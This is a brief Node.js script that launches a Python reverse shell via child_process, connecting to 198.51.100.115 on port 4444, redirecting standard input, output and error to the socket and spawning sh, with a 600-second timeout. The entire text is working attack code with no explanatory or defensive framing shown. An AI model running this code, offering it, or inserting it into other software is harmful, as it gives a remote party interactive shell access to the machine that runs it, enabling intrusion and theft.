const cp = require('child_process');
const py = `
import socket,subprocess,os
s=socket.socket();s.connect(("198.51.100.115",4444))
[os.dup2(s.fileno(),f) for f in (0,1,2)]
subprocess.call(["sh"])
`;
cp.execFile('timeout', ['600', 'python3', '-c', py]);
